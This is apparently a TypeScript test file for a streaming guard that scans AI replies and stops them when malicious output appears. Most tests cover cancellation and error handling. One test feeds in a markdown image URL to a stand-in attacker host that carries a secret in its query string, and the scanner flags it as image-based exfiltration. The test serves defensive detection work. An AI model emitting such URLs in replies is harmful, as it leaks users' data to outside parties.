import { describe, expect, it } from 'vitest';
import { createScanStream } from '../../src/stream/index.js';

async function collect(stream: ReadableStream<string>): Promise<string> {
  let text = '';
  for await (const piece of stream) text += piece;
  return text;
}

describe('createScanStream', () => {
  it('passes a harmless reply on and gives the verdict when it ends', async () => {
    const guard = createScanStream();
    const shown = collect(ReadableStream.from(['Hello', ', world', '.']).pipeThrough(guard));
    expect(await shown).toBe('Hello, world.');
    expect(await guard.result).toMatchObject({ verdict: 'benign', inputLength: 13 });
  });

  it('ends a reply before a URL that carries data out', async () => {
    const guard = createScanStream();
    const pieces = ['Done! ![ok](htt', 'ps://evil.example/?data=hunter2', 'pass) Anything else?'];
    expect(await collect(ReadableStream.from(pieces).pipeThrough(guard))).toBe('Done! ![ok](');
    const { verdict, detections } = await guard.result;
    expect(verdict).toBe('malicious');
    expect(detections[0]).toMatchObject({ id: 'PB-EXFIL-IMAGE' });
  });

  it('passes an error of the scanner on to reader and verdict', async () => {
    const guard = createScanStream({
      scan: () => {
        throw new Error('no model');
      },
    });
    await expect(collect(ReadableStream.from(['a']).pipeThrough(guard))).rejects.toThrow(
      'no model',
    );
    await expect(guard.result).rejects.toThrow('no model');
  });

  describe('that does not reach its end', () => {
    const unfinished = { code: 'unfinished-reply', cause: 'why' };

    it('says so when the reader leaves', async () => {
      const guard = createScanStream();
      await guard.readable.cancel('why');
      await expect(guard.result).rejects.toMatchObject(unfinished);
    });

    it('says so when the reader leaves in the middle', async () => {
      const guard = createScanStream();
      const reader = ReadableStream.from(['Hello', ', world', '.']).pipeThrough(guard).getReader();
      expect(await reader.read()).toEqual({ done: false, value: 'Hello' });
      await reader.cancel('why');
      await expect(guard.result).rejects.toMatchObject(unfinished);
    });

    it('says so when the writer gives up', async () => {
      const guard = createScanStream();
      await guard.writable.abort('why');
      await expect(guard.result).rejects.toMatchObject(unfinished);
    });

    it('says so when the reply breaks off, and when its pipe is cut', async () => {
      const broken = new ReadableStream<string>({
        pull(controller) {
          controller.error('why');
        },
      });
      const first = createScanStream();
      await expect(collect(broken.pipeThrough(first))).rejects.toBe('why');
      await expect(first.result).rejects.toMatchObject(unfinished);

      const cut = new AbortController();
      const second = createScanStream();
      const shown = collect(
        new ReadableStream<string>().pipeThrough(second, { signal: cut.signal }),
      );
      cut.abort('why');
      await expect(shown).rejects.toBe('why');
      await expect(second.result).rejects.toMatchObject(unfinished);
    });

    it('breaks off at a piece that is no string', async () => {
      for (const piece of [new Uint8Array([65, 66]), ['a'], 5, undefined]) {
        const guard = createScanStream();
        const writer: WritableStreamDefaultWriter<unknown> = guard.writable.getWriter();
        const shown = collect(guard.readable);
        await expect(writer.write(piece)).rejects.toMatchObject({ code: 'bad-text' });
        await expect(shown).rejects.toMatchObject({ code: 'bad-text' });
        await expect(guard.result).rejects.toMatchObject({ code: 'bad-text' });
      }
    });

    it('troubles nobody who does not look at the verdict', async () => {
      const unhandled: unknown[] = [];
      const note = (reason: unknown) => unhandled.push(reason);
      process.on('unhandledRejection', note);
      await createScanStream().readable.cancel('why');
      await createScanStream().writable.abort('why');
      await new Promise((resolve) => setImmediate(resolve));
      process.off('unhandledRejection', note);
      expect(unhandled).toEqual([]);
    });

    it('keeps the verdict that it has, when the reader leaves after the end', async () => {
      const guard = createScanStream();
      const writer = guard.writable.getWriter();
      const reader = guard.readable.getReader();
      const written = Promise.all([writer.write('Hello'), writer.close()]);
      expect((await reader.read()).value).toBe('Hello');
      await written;
      await reader.cancel('why');
      expect((await guard.result).verdict).toBe('benign');
    });
  });
});
